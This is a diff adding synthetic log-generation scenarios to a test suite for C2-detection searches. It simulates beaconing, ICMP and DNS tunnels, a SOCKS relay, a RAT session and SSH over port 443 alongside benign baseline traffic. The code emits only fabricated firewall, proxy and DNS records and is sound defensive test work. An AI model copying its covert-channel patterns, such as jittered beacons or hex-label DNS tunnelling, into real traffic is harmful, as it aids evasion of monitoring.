+                              '"%s" -f "C:\\Users\\%s\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor\\torrc"'
+                              ' +__SocksPort 127.0.0.1:9150' % (TOR_EXE % name, name), user)
+    rec.windows_connection(ws, tor, t0 + 7, "tcp", "185.220.101.4", 9001)
+    firefox = rec.windows_service(TOR_FIREFOX % name, '"%s"' % (TOR_FIREFOX % name), user=user)
+    rec.windows_connection(ws, firefox, t0 + 9, "tcp", "127.0.0.1", 9150, src="127.0.0.1")
+    telegram = rec.windows_service("C:\\Users\\lena\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe",
+                                   "Telegram.exe -autostart", user=user)
+    rec.windows_dns_query(ws, telegram, t0 + 20, "api.telegram.org", answers=("149.154.167.220",))
+    discord = rec.windows_service("C:\\Users\\lena\\AppData\\Local\\Discord\\app-1.0.9040\\Discord.exe",
+                                  "Discord.exe", user=user)
+    rec.windows_dns_query(ws, discord, t0 + 25, "cdn.discordapp.com", answers=("162.159.133.233",))
+    chrome = rec.windows_service(CHROME, '"%s"' % CHROME, user=user)
+    rec.windows_dns_query(ws, chrome, t0 + 30, "pastebin.com", answers=("104.20.67.143",))
+    rec.windows_dns_query(ws, chrome, t0 + 31, "www.torproject.org", answers=("116.202.120.165",))
+    onedrive = rec.windows_service("C:\\Users\\lena\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
+                                   "OneDrive.exe /background", user=user)
+    rec.windows_dns_query(ws, onedrive, t0 + 35, "api.onedrive.com", answers=("13.107.42.12",))
+    ps = rec.windows_process(ws, t0 + 40, POWERSHELL, "powershell.exe -Command Install-Module PSWindowsUpdate", user)
+    rec.windows_dns_query(ws, ps, t0 + 41, "www.powershellgallery.com", answers=("13.107.6.160",))
+    rec.windows_dns_query(ws, ps, t0 + 42, "psg-prod-eastus.azureedge.net", answers=("13.107.246.40",))
+    certutil = rec.windows_process(ws, t0 + 50, "C:\\Windows\\System32\\certutil.exe",
+                                   "certutil.exe -generateSSTFromWU roots.sst", user)
+    rec.windows_dns_query(ws, certutil, t0 + 51, "ctldl.windowsupdate.com", answers=("93.184.221.240",))
+    svchost = rec.windows_service(SVCHOST, "svchost.exe -k netsvcs")
+    rec.windows_pipe(ws, svchost, t0 + 60, "\\srvsvc", created=False)
+    rec.windows_pipe(ws, chrome, t0 + 61, "\\mojo.5688.8052.183894939787088877")
+    chrome_ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                 "Chrome/124.0.0.0 Safari/537.36")
+    rec.zeek_http(t0 + 70, ws.ip, "93.184.215.14", "GET", "news.example.org", "/news.php", chrome_ua,
+                  response_body_len=48210)
+FIREWALL_DNS = "10.20.0.53"
+
+
+@scenario
+def x8_cim_network_c2(rec, t0):
+    """C2 seen only through CIM-mapped data (a firewall, a web proxy and the DNS server's
+    log, no Zeek and no endpoint telemetry): the tstats-based CIM variants of AN1258,
+    AN1228 and AN1225 must find each channel."""
+    # HTTPS check-ins every 30 s (+-10 %) for 40 minutes
+    beacon = "10.20.1.31"
+    for i in range(80):
+        rec.firewall_traffic(t0 + 30.0 * i + rec.rng.uniform(-3, 3), beacon, "203.0.113.120",
+                             443, "tcp", "ssl", 1400 + rec.rng.randrange(0, 40),
+                             5200 + rec.rng.randrange(0, 80), duration=0.8)
+    # SMB to an address on the internet, allowed by a permissive rule
+    rec.firewall_traffic(t0 + 400, "10.20.1.32", "198.51.100.140", 445, "tcp", "ms-ds-smb",
+                         48000, 9000, duration=35.0)
+    # ICMP tunnel: 1,200-byte echo payloads in one 15-minute session
+    rec.firewall_traffic(t0 + 100, "10.20.1.33", "203.0.113.121", None, "icmp", "ping",
+                         300 * 1228, 300 * 92, packets_out=300, packets_in=300, duration=900.0,
+                         icmp_type=8)
+    # SSH to an outside server on 443 (a tunnel through the web port)
+    rec.firewall_traffic(t0 + 200, "10.20.1.34", "198.51.100.142", 443, "tcp", "ssh",
+                         82000, 64000, duration=1800.0)
+    # A SOCKS relay on the internet (the firewall's App-ID names the handshake)
+    rec.firewall_traffic(t0 + 1200, "10.20.1.38", "198.51.100.143", 1080, "tcp", "socks",
+                         24000, 310000, duration=240.0)
+    # A RAT's session on a port no service uses: 1.9 MB out, 30 kB back
+    rec.firewall_traffic(t0 + 900, "10.20.1.35", "198.51.100.141", 7777, "tcp", "unknown-tcp",
+                         1900000, 30000, duration=600.0)
+    # DNS tunnel through the internal resolver: 56 hex characters in two labels per query
+    for i in range(150):
+        label = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
+        record_type = ("TXT", "CNAME", "MX")[i % 3]
+        rec.dns_server_log(t0 + 10.0 * i + rec.rng.uniform(0, 2.0), "10.20.1.36",
+                           "%s.%s.sync.example-relay.org" % (label[:28], label[28:]), record_type,
+                           [label[:48]] if record_type == "TXT"
+                           else ["%s.sync.example-relay.org" % label[:40]])
+    # HTTP C2 through the proxy: a GET every 45 s (+-15 %) to one rare site
+    for i in range(60):
+        rec.proxy_request(t0 + 45.0 * i + rec.rng.uniform(-6.75, 6.75), "10.20.1.37",
+                          "http://cdn.example-jquery.net/jquery-3.3.1.min.js", bytes_out=380,
+                          bytes_in=5600 + rec.rng.randrange(0, 40),
+                          content_type="application/javascript", category="Uncategorized",
+                          user="CORP\\ivan", dest_ip="203.0.113.123")
+
+
+@scenario
+def benign_cim_network(rec, t0):
+    """The CIM-mapped traffic of an ordinary hour: browsing and SaaS through the firewall
+    and the proxy, mail clients polling a common service, NTP, internal SMB, monitoring
+    pings, SSH and uploads on their own ports, and everyday DNS. Must raise nothing."""
+    clients = ["10.20.3.%d" % n for n in range(10, 24)]
+    sites = ["www.example.com", "news.example.org", "docs.example.net", "shop.example.com",
+             "intranet-cdn.example.net", "video.example.org"]
+    for client in clients:
+        # browsing: bursts of HTTPS sessions at irregular times
+        for _ in range(25):
+            rec.firewall_traffic(t0 + rec.rng.uniform(0, 3600), client,
+                                 "198.51.100.%d" % rec.rng.randrange(1, 60), 443, "tcp", "ssl",
+                                 rec.rng.randrange(800, 6000), rec.rng.randrange(5000, 400000),
+                                 duration=rec.rng.uniform(0.5, 90))
+        for _ in range(15):
+            site = rec.rng.choice(sites)
+            rec.proxy_request(t0 + rec.rng.uniform(0, 3600), client,
+                              "https://%s/%s" % (site, rec.rng.choice(("", "index.html", "a/b", "img/x.png"))),
+                              bytes_in=rec.rng.randrange(2000, 90000))
+        # every client's mail and chat clients poll the same SaaS endpoint every minute
+        for i in range(60):
+            rec.proxy_request(t0 + 60.0 * i + rec.rng.uniform(0, 2), client,
+                              "https://outlook.office365.com/mapi/emsmdb/?MailboxId=x",
+                              http_method="POST", bytes_out=900, bytes_in=1200,
+                              content_type="application/mapi-http", category="Web-based Email")
+        # NTP against the internal server, DNS to the resolver, SMB to the file server
+        for i in range(56):
+            rec.firewall_traffic(t0 + 64.0 * i, client, NTP_SERVER, 123, "udp", "ntp", 76, 76,
+                                 packets_out=1, packets_in=1, duration=0.01, dest_zone="trust")
+        rec.firewall_traffic(t0 + rec.rng.uniform(0, 3600), client, FILE_SERVER, 445, "tcp",
+                             "ms-ds-smb", 40000, 900000, duration=120.0, dest_zone="trust")
+        for name in ("www.example.com", "outlook.office365.com", "update.example.net"):
+            rec.dns_server_log(t0 + rec.rng.uniform(0, 3600), client, name, "A",
+                               ["198.51.100.%d" % rec.rng.randrange(1, 60)])
+    # an administrator pings outside hosts now and then: four 32-byte echo payloads each
+    # (a monitoring server's timed pings are the documented false positive of the beacon
+    # searches, allowlisted in c2hunt_beacon_allowlist: see false_positives)
+    for i in range(5):
+        rec.firewall_traffic(t0 + rec.rng.uniform(0, 3600), "10.20.3.15", "203.0.113.%d" % (1 + i), None, "icmp", "ping",
+                             4 * 60, 4 * 60, packets_out=4, packets_in=4, duration=3.0,
+                             icmp_type=8)
+    # developers: SSH to a code host on 22, a large upload to a file-sharing site over HTTPS
+    rec.firewall_traffic(t0 + 700, "10.20.3.12", "198.51.100.200", 22, "tcp", "ssh", 90000,
+                         400000, duration=300.0)
+    rec.firewall_traffic(t0 + 800, "10.20.3.13", "198.51.100.201", 443, "tcp", "ssl",
+                         250000000, 900000, duration=900.0)
+    # a CDN and an anti-virus reputation service use generated names
+    for i in range(40):
+        rec.dns_server_log(t0 + 30.0 * i, "10.20.3.14",
+                           "%s.avqs.mcafee.com" % "".join(rec.rng.choice("0123456789abcdef") for _ in range(32)),
+                           "A", ["127.0.0.1"])
 
 
 def build(name, seed=DEFAULT_SEED):
